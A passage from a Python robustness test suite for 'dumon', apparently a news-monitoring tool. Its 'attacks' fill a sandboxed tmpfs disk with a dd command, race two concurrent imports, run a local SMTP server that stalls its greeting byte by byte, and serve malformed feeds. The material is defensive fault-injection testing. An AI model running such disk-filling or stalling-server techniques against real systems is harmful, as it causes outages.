        f"mount -t tmpfs -o size={size} tmpfs {lab.folder / 'full'} && "
        f"cp -a {desk}/. {lab.folder / 'full'}/ && mount --bind {lab.folder / 'full'} {desk}"
    )
    (lab.folder / "full").mkdir()
    wrap = _namespace(lab, setup)
    if wrap is None:
        raise Skipped("no mount namespaces here")
    server = lab.server()
    items = [
        (f"Sở GD&ĐT Ninh Bình: tin dài số {i}", f"{server.base_url}/f/{i}", "Tóm tắt " * 300)
        for i in range(600)
    ]
    server.route("/rss", body=rss(items), content_type="application/rss+xml")
    lab.sources([{"name": "day", "url": server.url("/rss")}])
    smtp = SmtpServer().start()
    lab.on_close(smtp.stop)
    (desk / "settings.yaml").write_text(
        f"mail:\n  host: 127.0.0.1\n  port: {smtp.port}\n  security: none\n"
        "  from: dumon@so.example.vn\n  recipients: [lanhdao@so.example.vn]\n",
        encoding="utf-8",
    )
    problems: list[str] = []
    fill = f"dd if=/dev/zero of={desk}/chiem-cho bs=64k 2>/dev/null; true"
    full_wrap = _namespace(lab, f"{setup} && {fill}")
    assert full_wrap is not None
    run = lab.dumon("scan", wrap=wrap)
    error_line(problems, run, "scan", 5, "Ổ đĩa đầy")
    window = ["--since", "2026-11-26", "--until", "2026-11-28"]
    run = lab.dumon("digest", *window, "--format", "text", wrap=full_wrap)
    check(problems, "tuyển sinh lớp 10" in run.stdout, f"digest not printed: {run.output[-300:]}")
    check(problems, run.status == 0 and "Lưu ý" in run.stderr, f"digest: {run.output[-300:]}")
    no_traceback(problems, run, "digest")
    run = lab.dumon("digest", *window, "--send", wrap=full_wrap)
    check(problems, len(smtp.messages) == 1, f"digest not mailed: {run.output[-300:]}")
    no_traceback(problems, run, "digest --send")
    return verdict_of(problems)


# --- 13. two imports on a fresh desk -----------------------------------------------------------


@attack("concurrent-imports", 13)
def _concurrent(lab: Lab) -> Verdict:
    lab.keywords()
    jsonl = lab.folder / "cung.jsonl"
    jsonl.write_text(
        "".join(
            json.dumps({"id": str(i), "title": f"Trường học tin {i}", "url": f"http://x.vn/{i}"})
            + "\n"
            for i in range(50)
        )
    )
    problems: list[str] = []
    for round_ in range(4):
        desk = lab.folder / f"moi-{round_}"
        desk.mkdir()
        (desk / "keywords").symlink_to(KEYWORDS)
        env = {**os.environ, "DUMON_HOME": str(desk)}
        command = [sys.executable, "-m", "dumon", "import", "--jsonl", str(jsonl)]
        runs = [
            subprocess.Popen(command, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
            for _ in range(2)
        ]
        for process in runs:
            out, err = process.communicate(timeout=120)
            check(problems, process.returncode == 0, f"round {round_}: {err.decode()[-300:]}")
        with contextlib.closing(sqlite3.connect(desk / "dumon.db")) as conn:
            count = conn.execute("select count(*) from articles").fetchone()[0]
        check(problems, count == 50, f"round {round_}: {count} articles")
    return verdict_of(problems)


# --- 14. an SMTP server that never finishes its greeting ---------------------------------------


@attack("smtp-endless-greeting", 14)
def _smtp(lab: Lab) -> Verdict:
    listener = socket.create_server(("127.0.0.1", 0))
    port = listener.getsockname()[1]
    stop = threading.Event()

    def drip() -> None:
        listener.settimeout(0.2)
        while not stop.is_set():
            try:
                conn, _ = listener.accept()
            except TimeoutError:
                continue
            for byte in b"220-" + b"x" * 8000:
                if stop.wait(0.2):
                    break
                try:
                    conn.sendall(bytes([byte]))
                except OSError:
                    break
            conn.close()

    thread = threading.Thread(target=drip, daemon=True)
    thread.start()
    lab.on_close(lambda: (stop.set(), thread.join(), listener.close()))
    filled_desk(lab, 3)
    (lab.desk / "settings.yaml").write_text(
        f"mail:\n  host: 127.0.0.1\n  port: {port}\n  security: none\n  timeout: 3\n"
        "  from: dumon@so.example.vn\n  recipients: [lanhdao@so.example.vn]\n",
        encoding="utf-8",
    )
    run = lab.dumon("digest", "--send", timeout=60)
    problems: list[str] = []
    check(problems, run.seconds < 3 + 5, f"digest --send took {run.seconds:.1f} s")
    error_line(problems, run, "digest --send", 1, "không trả lời xong")
    return verdict_of(problems, seconds=run.seconds)


# --- 15. smaller ---------------------------------------------------------------------------------


@attack("small-things", 15)
def _small(lab: Lab) -> Verdict:
    server = lab.server()
    problems: list[str] = []
    lab.keywords()
    # outlet: null
    (lab.desk / "sources.yaml").write_text(
        f"sources:\n  - name: a\n    url: {server.url('/rss')}\n    kind: rss\n    outlet:\n"
        "    tier: local\n",
        encoding="utf-8",
    )
    run = lab.dumon("scan")
    error_line(problems, run, "outlet: null", 2, "sources.yaml, dòng 5", "outlet")
    # A JSON Feed title object, a long title, impossible dates; retries: 0.
    items = [
        {"id": "1", "url": f"{server.base_url}/j/1", "title": {"vi": "Trường"}, "summary": "Tin A"},
        {"id": "2", "url": f"{server.base_url}/j/2", "title": "Trường học " * 2000},
    ]
    server.route("/feed.json", body=json.dumps({"items": items}), content_type="application/json")
    feed = rss(school_items(server.base_url, "nam"), pub="Mon, 01 Jan 0001 00:00:00 +0000")
    server.route("/rss", body=feed, content_type="application/rss+xml")
    broken = rss(school_items(server.base_url, "ngay"), pub="2026-02-30T08:00:00+07:00")
    # Not well-formed, so feedparser reads it (and would roll 30 February over to 2 March).
    server.route("/ngay.rss", body=broken.replace("<channel>", "<channel><x>&</x>"))
    lab.sources(
        [
            {"name": "json", "url": server.url("/feed.json")},
            {"name": "nam", "url": server.url("/rss")},
            {"name": "ngay", "url": server.url("/ngay.rss")},
        ],
        retries=0,
    )
    run = lab.dumon("scan", "--json")
    check(problems, run.status == 0, f"scan: {run.output[-300:]}")
    titles = dict(lab.query("select url, title from articles where source = 'json'"))
    first = titles.get(f"{server.base_url}/j/1", "")
    check(problems, "{" not in first and "vi" not in first, f"title stored as {first!r}")
    second = titles.get(f"{server.base_url}/j/2", "")
    check(problems, 0 < len(second) <= 1000, f"title of {len(second)} characters kept")
    dates = lab.query("select source, published from articles where source in ('nam', 'ngay')")
    check(problems, dates and all(p is None for _, p in dates), f"impossible dates kept: {dates}")
    check(problems, bool(dates) and len(dates) == 6, f"articles: {dates}")
    return verdict_of(problems)


def run_attack(name: str, folder: Path) -> Verdict:
    """Run one attack in its own lab under `folder`."""
    folder.mkdir(parents=True, exist_ok=True)
    with Lab(folder) as lab:
        return ATTACKS[name].run(lab)


@contextlib.contextmanager
def temporary_lab() -> Iterator[Path]:
    import tempfile

    with tempfile.TemporaryDirectory(prefix="dumon-attack-") as tmp:
        yield Path(tmp)
